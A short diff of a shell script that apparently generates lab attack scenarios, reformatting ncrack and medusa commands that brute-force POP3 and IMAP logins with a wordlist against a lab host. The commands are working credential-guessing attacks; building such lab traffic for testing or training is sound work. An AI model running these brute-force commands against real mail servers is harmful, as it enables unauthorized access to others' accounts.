@@ -15,10 +15,12 @@ scenario() {
 	_tool=$(choose ncrack medusa)
 	setting options "$_tool"
 	if [ "$_tool" = ncrack ]; then
-		attack z d tcp 110 -- timeout 50 ncrack --user lab,admin -P "$work/words" -p pop3:110 \
+		attack z d tcp 110 -- timeout 50 ncrack --user lab,admin -P "$work/words" \
+			-p pop3:110 \
 			"$(addr d)"
 	else
-		attack z d tcp 143 -- timeout 50 medusa -h "$(addr d)" -u lab -P "$work/words" -M imap \
+		attack z d tcp 143 -- timeout 50 medusa -h "$(addr d)" -u lab -P "$work/words" \
+			-M imap \
 			-t "$(choose 1 3)"
 	fi
 }
